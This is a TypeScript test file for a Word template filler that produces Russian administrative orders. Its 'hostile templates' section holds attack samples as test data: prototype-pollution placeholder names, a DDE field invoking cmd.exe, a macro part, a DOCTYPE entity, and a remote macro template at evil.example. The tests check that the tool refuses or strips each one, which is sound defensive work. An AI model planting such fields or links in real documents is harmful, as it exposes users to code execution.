import { checkTemplate } from "../../../src/documents/order/check-template";
import { openDocx, packDocx, partBytes } from "../../../src/documents/order/parts";
import { type TemplateProblem } from "../../../src/documents/order/templates";
import { writeOrder } from "../../../src/documents/order/write";
import { docxLines } from "../../kit/docx-text";
import { lintDocx } from "../../kit/lint-docx";
import { validateDocx } from "../../kit/validate-docx";
import { cell, ownTemplate, p, row, table } from "./own-template";
import { groupDraft, largeDraft, sampleDraft, sampleStyle } from "./sample-drafts";

const write = async (template: Uint8Array, draft = sampleDraft) => {
  const { bytes, problems } = await writeOrder(draft, sampleStyle, template);
  expect(lintDocx(bytes)).toEqual([]);
  return {
    bytes,
    lines: docxLines(bytes),
    problems: problems.filter(({ kind }) => kind !== "not-placed"),
    all: problems,
  };
};
const messages = (problems: readonly TemplateProblem[]): string[] => problems.map(({ message }) => message);

describe("places as Word keeps them", () => {
  const split: [string, string][] = [
    [
      "runs with revision marks",
      "<w:p><w:r w:rsidR='00AB'><w:t>О</w:t></w:r><w:r><w:t>т {да</w:t></w:r><w:r w:rsidR='00AC'><w:t>та</w:t></w:r><w:r><w:t>}.</w:t></w:r></w:p>",
    ],
    [
      "proofing marks between",
      "<w:p><w:r><w:t>От {</w:t></w:r><w:proofErr w:type='spellStart'/><w:r><w:t>дата</w:t></w:r><w:proofErr w:type='spellEnd'/><w:r><w:t>}.</w:t></w:r></w:p>",
    ],
    [
      "a bookmark between",
      "<w:p><w:r><w:t>От {да</w:t></w:r><w:bookmarkStart w:id='0' w:name='a'/><w:bookmarkEnd w:id='0'/><w:r><w:t>та}.</w:t></w:r></w:p>",
    ],
    ["every letter in a run", p(..."От {дата}.".split(""))],
    [
      "part of it bold",
      "<w:p><w:r><w:t>От {</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>дата</w:t></w:r><w:r><w:t>}.</w:t></w:r></w:p>",
    ],
    ["spaces, capitals", p("От { Дата\u00a0}.")],
    [
      "a page break that Word remembers",
      "<w:p><w:r><w:t>От {да</w:t><w:lastRenderedPageBreak/><w:t>та}.</w:t></w:r></w:p>",
    ],
  ];
  test.each(split)("%s", async (_, body) => {
    const { lines, problems } = await write(ownTemplate(body));
    expect(lines).toEqual(["От 17 февраля 2026 г.."]);
    expect(problems).toEqual([]);
  });

  test("the format of the place is the format of its text", async () => {
    const { bytes } = await write(
      ownTemplate("<w:p><w:r><w:rPr><w:b/><w:sz w:val='40'/></w:rPr><w:t>{бланк}</w:t></w:r></w:p>"),
    );
    const xml = Buffer.from(bytesOf(bytes)).toString();
    expect(xml.match(/<w:sz w:val="40"\/>/g)).toHaveLength(2);
    expect(validateDocx(bytes)).toEqual([]);
  });

  test("headers and both forms of a text box", async () => {
    const box = `<w:p><w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0"><wp:extent cx="914400" cy="914400"/><wp:docPr id="1" name="Поле"/><a:graphic><a:graphicData uri="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"><wps:wsp><wps:cNvSpPr txBox="1"/><wps:spPr/><wps:txbx><w:txbxContent>${p("Номер: {номер}")}</w:txbxContent></wps:txbx><wps:bodyPr/></wps:wsp></a:graphicData></a:graphic></wp:inline></w:drawing></mc:Choice><mc:Fallback><w:pict><v:shape style="width:72pt;height:72pt"><v:textbox><w:txbxContent>${p("Номер: {номер}")}</w:txbxContent></v:textbox></v:shape></w:pict></mc:Fallback></mc:AlternateContent></w:r><w:r><w:t>Дата: {дата}</w:t></w:r></w:p>`;
    const { bytes, lines, problems } = await write(ownTemplate(box, { header: p("{вид} {но", "мер}") }));
    expect(lines.filter((line) => line.startsWith("Номер"))).toEqual(["Номер: № ____", "Номер: № ____"]);
    expect(docxLines(bytes, "word/header1.xml")).toEqual(["ПРИКАЗ № ____"]);
    expect(problems).toEqual([]);
    expect(validateDocx(bytes)).toEqual([]);
  });
});

describe("loops over rows", () => {
  const members = groupDraft.annexes[0]!.content;
  const names = members.kind === "members" ? members.members.map(({ name }) => name) : [];

  test("a row with cells merged along", async () => {
    const body = table(
      3,
      row(cell("Имя", '<w:gridSpan w:val="2"/>'), cell("Роль")),
      row(cell("{#состав}{имя}", '<w:gridSpan w:val="2"/>'), cell("{роль}{/состав}")),
      row(cell("Всего", '<w:gridSpan w:val="3"/>')),
    );
    const { bytes, lines } = await write(ownTemplate(body + p("")), groupDraft);
    expect(lines).toEqual(["Имя", "Роль", names[0], "председатель", names[1], "секретарь", names[2], "", "Всего", ""]);
    expect(validateDocx(bytes)).toEqual([]);
  });

  test("a row under a cell merged down", async () => {
    const body = table(
      2,
      row(cell("Группа", '<w:vMerge w:val="restart"/>'), cell("Имя")),
      row(cell("", "<w:vMerge/>"), cell("{#состав}{имя}{/состав}")),
    );
    const { bytes, lines } = await write(ownTemplate(body + p("")), groupDraft);
    expect(lines).toEqual(["Группа", "Имя", "", names.join(""), ""]);
    expect(validateDocx(bytes)).toEqual([]);
  });

  test("two rows merged down repeat together", async () => {
    const body = table(
      2,
      row(cell("{#состав}{имя}", '<w:vMerge w:val="restart"/>'), cell("{должность}")),
      row(cell("", "<w:vMerge/>"), cell("{роль}{/состав}")),
    );
    const { bytes, lines } = await write(ownTemplate(body + p("")), groupDraft);
    expect(lines.slice(0, 8)).toEqual([
      ...[names[0], "начальник Управления образования", "", "председатель"],
      ...[names[1], "методист МБУ «ММЦ»", "", "секретарь"],
    ]);
    expect(validateDocx(bytes)).toEqual([]);
  });

  test("clauses of all levels in one paragraph, their numbers typed", async () => {
    const { lines } = await write(ownTemplate(p("{#все пункты}") + p("{номер} {текст}") + p("{/все пункты}")));
    expect(lines.slice(1, 4)).toEqual([
      "2. Руководителю МБОУ СОШ № 1 (Ивановой А.П.):",
      "2.1. Обеспечить выполнение мероприятий Плана.",
      "2.2. Представить отчёт о выполнении Плана до 20 декабря 2026 г.",
    ]);
  });

  test("what a loop repeats keeps its bookmarks and Word's paragraph marks apart", async () => {
    const marked =
      '<w:p w14:paraId="00000001"><w:bookmarkStart w:id="1" w:name="текст"/><w:r><w:t>{текст}</w:t></w:r><w:bookmarkEnd w:id="1"/></w:p>';
    const control = `<w:sdt><w:sdtPr><w:id w:val="5"/></w:sdtPr><w:sdtContent>${p("к приказу")}</w:sdtContent></w:sdt>`;
    const { bytes } = await write(ownTemplate(p("{#пункты}") + marked + control + p("{/пункты}")));
    expect(validateDocx(bytes)).toEqual([]);
  });
});

describe("faults are named and stay visible", () => {
  const faults: [string, string, string[], string[]][] = [
    [
      "an unknown place",
      p("Телефон {телефон}"),
      ["Телефон {телефон}"],
      [
        "Места «{телефон}» программа не знает, и в приказе оно останется как есть. Исправьте имя по списку мест или впишите вместо него текст.",
      ],
    ],
    [
      "a slip in a name",
      p("{загаловок}"),
      ["{загаловок}"],
      [
        "Места «{загаловок}» программа не знает, и в приказе оно останется как есть. Возможно, нужно «{заголовок}»: исправьте имя или впишите вместо него текст.",
      ],
    ],
    [
      "an unknown loop with known places in it",
      p("{#школы}") + p("{дата}") + p("{/школы}"),
      ["{#школы}", "17 февраля 2026 г.", "{/школы}"],
      [
        "Места «{#школы}» программа не знает, и в приказе оно останется как есть. Исправьте имя по списку мест или впишите вместо него текст.",
      ],
    ],
    [
      "a loop without end",
      p("{#пункты}") + p("{текст}"),
      ["{#пункты}", "{текст}"],
      [
        "Повтор «{#пункты}» не закрыт: добавьте после повторяемого «{/пункты}».",
        "Место «{текст}» работает только внутри «{#пункты} … {/пункты}»: перенесите его туда.",
      ],
    ],
    [
      "an end without beginning",
      p("{/пункты}"),
      ["{/пункты}"],
      ["У «{/пункты}» нет начала: добавьте перед повторяемым «{#пункты}» или уберите его."],
    ],
    [
      "loops that cross",
      p("{#приложения}{#состав}{/приложения}{/состав}"),
      ["{#состав}{/состав}"],
      [
        "Повтор «{#состав}» не закрыт: добавьте после повторяемого «{/состав}».",
        "У «{/состав}» нет начала: добавьте перед повторяемым «{#состав}» или уберите его.",
      ],
    ],
    [
      "the plan among other words",
      p("План: {@план}"),
      ["План: {@план}"],
      ["Место «{@план}» стоит в абзаце не одно: перенесите его в отдельный абзац."],
    ],
    ["the plan without its sign", p("{план}"), ["{план}"], ["Место «{план}» записано не так: нужно «{@план}»."]],
    ["a sign too many", p("{@дата}"), ["{@дата}"], ["В месте «{@дата}» лишний знак «@»: запишите «{дата}»."]],
    [
      "a loop as a text",
      p("{пункты}"),
      ["{пункты}"],
      ["Место «{пункты}» записано не так: нужно «{#пункты} … {/пункты}»."],
    ],
    [
      "lone braces beside a place",
      p("{ а {дата} б } в {}"),
      ["{ а 17 февраля 2026 г. б } в {}"],
      [
        "В абзаце «{ а {дата} б } в {}» скобка «{» без пары или без имени, она останется как есть. Если здесь должно быть место, допишите его, иначе уберите скобку.",
        "В абзаце «{ а {дата} б } в {}» скобка «}» без пары или без имени, она останется как есть. Если здесь должно быть место, допишите его, иначе уберите скобку.",
        "В абзаце «{ а {дата} б } в {}» скобка «{}» без пары или без имени, она останется как есть. Если здесь должно быть место, допишите его, иначе уберите скобку.",
      ],
    ],
    [
      "a brace that closes in another paragraph",
      p("Дата {да") + p("та}"),
      ["Дата {да", "та}"],
      [
        "В абзаце «Дата {да» скобка «{» без пары или без имени, она останется как есть. Если здесь должно быть место, допишите его, иначе уберите скобку.",
        "В абзаце «та}» скобка «}» без пары или без имени, она останется как есть. Если здесь должно быть место, допишите его, иначе уберите скобку.",
      ],
    ],
    [
      "a loop from a cell to outside the table",
      table(1, row(cell("{#пункты}"))) + p("{текст}{/пункты}"),
      ["{#пункты}", "{текст}{/пункты}"],
      [
        "Место «{#пункты}» стоит так, что его нельзя заполнить: начало и конец повтора должны быть в одной ячейке, в одной строке таблицы или в соседних абзацах.",
      ],
    ],
  ];
  test.each(faults)("%s", async (_, body, lines, wanted) => {
    const made = await write(ownTemplate(body));
    expect(made.lines).toEqual(lines);
    expect(messages(made.problems)).toEqual(wanted);
  });

  test("braces outside the text – a file's properties, a drawing – are no places", async () => {
    const core = "<Properties><Title>{#пункты} {дата}</Title></Properties>";
    const { problems } = await write(ownTemplate(p("{дата}"), { parts: { "docProps/app.xml": core } }));
    expect(problems).toEqual([]);
  });

  test("what the draft says and the template lacks is told once", async () => {
    const { all } = await write(ownTemplate(p("{вид} {дата} {номер}") + p("{#пункты}{текст}{/пункты}")), groupDraft);
    expect(all.map(({ place }) => place)).toEqual([
      ...["{бланк}", "{место}", "{заголовок}", "{преамбула}", "{подпись.должность}", "{подпись.фамилия}"],
      ...["{приложение.отметка}", "{приложение.название}", "{#состав}{имя}{/состав}"],
      ...[
        "{#приложения}{отметка}{/приложения}",
        "{#приложения}{гриф}{/приложения}",
        "{#приложения}{название}{/приложения}",
      ],
      "{#приложения}{@план}{/приложения}",
    ]);
    expect(all[0]?.message).toBe("В шаблоне нет места «{бланк}», и этих слов в приказе нет: добавьте место в шаблон.");
  });

  test("a template is checked before its first order", () => {
    const template = ownTemplate(p("{дата} {номр}") + p("{#пункты}{текст}{/пункты}") + p("{@план}"));
    expect(checkTemplate(template).map(({ kind, place }) => `${kind} ${place}`)).toEqual([
      "unknown {номр}",
      "not-placed {номер}",
      "not-placed {заголовок}",
      "not-placed {преамбула}",
      "not-placed {подпись.должность}",
      "not-placed {подпись.фамилия}",
    ]);
  });
});

describe("hostile templates run nothing", () => {
  test.each([
    "constructor",
    "__proto__",
    "toString",
    "constructor.constructor",
    "дата.constructor",
    "дата.length",
    "пункты.0.текст",
    "this",
    ".",
    "$index",
    "1+1",
    "alert(1)",
  ])("{%s} is only a text", async (name) => {
    const { lines } = await write(
      ownTemplate(p(`{${name}}`) + p(`{#${name}}`) + p("внутри") + p(`{/${name}}`) + p(`{@${name}}`)),
    );
    expect(lines).toEqual([`{${name}}`, `{#${name}}`, "внутри", `{/${name}}`, `{@${name}}`]);
  });

  test("other delimiters cannot be asked for", async () => {
    expect((await write(ownTemplate(p("{=[[ ]]=}") + p("[[дата]] {дата}")))).lines).toEqual([
      "{=[[ ]]=}",
      "[[дата]] 17 февраля 2026 г.",
    ]);
  });

  test("a loop in itself is refused as such", async () => {
    const nest = (depth: number): string =>
      depth === 0 ? p("{текст}") : p("{#пункты}") + nest(depth - 1) + p("{/пункты}");
    const { problems, lines } = await write(ownTemplate(nest(12)), largeDraft);
    expect(messages(problems)).toEqual(["Повтор «{#пункты}» стоит внутри самого себя: уберите вложенный."]);
    expect(lines.length).toBeLessThan(15 * 25);
  });

  test("loops that would make more than a document can hold are stopped", async () => {
    const names = ["все пункты", "приложения", "состав"];
    const open = names.map((name) => p(`{#${name}}`)).join("");
    const close = [...names]
      .reverse()
      .map((name) => p(`{/${name}}`))
      .join("");
    const members = Array.from({ length: 500 }, (_, index) => ({ name: `Имя ${index}`, position: "", role: "" }));
    const draft = {
      ...largeDraft,
      annexes: [{ ...largeDraft.annexes[0]!, content: { kind: "members" as const, members } }],
    };
    await expect(writeOrder(draft, sampleStyle, ownTemplate(open + p("x".repeat(20_000)) + close))).rejects.toThrow(
      "Шаблон повторяет слишком много текста",
    );
  });

  const active: [string, Uint8Array, RegExp][] = [
    ["macros", ownTemplate(p("{дата}"), { parts: { "word/vbaProject.xml": "<a/>" } }), /макросы/],
    [
      "a DDE field",
      ownTemplate(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
      ),
      /поле DDE/,
    ],
    ["no document", new TextEncoder().encode("{дата}"), /не документ Word/],
    [
      "a workbook",
      packDocx({ "[Content_Types].xml": partBytes("<Types/>"), "xl/workbook.xml": partBytes("<workbook/>") }),
      /не документ Word/,
    ],
    ["an old document", Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), /старого вида/],
    ["damaged XML", ownTemplate("<w:p>{"), /повреждён/],
    [
      "a DOCTYPE",
      ownTemplate(p("{дата}"), {
        parts: { "word/document.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><w:document>{&b;}</w:document>" },
      }),
      /DOCTYPE/,
    ],
  ];
  test.each(active)("%s: refused in a sentence", async (_, template, sentence) => {
    await expect(writeOrder(sampleDraft, sampleStyle, template)).rejects.toMatchObject({
      name: "Failure",
      message: expect.stringMatching(sentence) as string,
    });
  });

  test("a template of Word (.dotx) becomes a document", async () => {
    const parts = openDocx(ownTemplate(p("{дата}")));
    const types = Buffer.from(parts["[Content_Types].xml"]!)
      .toString()
      .replace("document.main+xml", "template.main+xml");
    const { bytes, lines } = await write(packDocx({ ...parts, "[Content_Types].xml": partBytes(types) }));
    expect(lines).toEqual(["17 февраля 2026 г."]);
    expect(validateDocx(bytes)).toEqual([]);
  });

  test("a remote template is unhooked", async () => {
    const template = ownTemplate(p("{дата}"), {
      parts: {
        "word/settings.xml":
          '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>',
        "word/_rels/settings.xml.rels":
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>',
      },
    });
    const { bytes } = await writeOrder(sampleDraft, sampleStyle, template);
    expect(Buffer.from(bytesOf(bytes, "word/_rels/settings.xml.rels")).toString()).not.toContain("evil");
    expect(Buffer.from(bytesOf(bytes, "word/settings.xml")).toString()).not.toContain("attachedTemplate");
  });
});

function bytesOf(docx: Uint8Array, name = "word/document.xml"): Uint8Array {
  return openDocx(docx)[name]!;
}
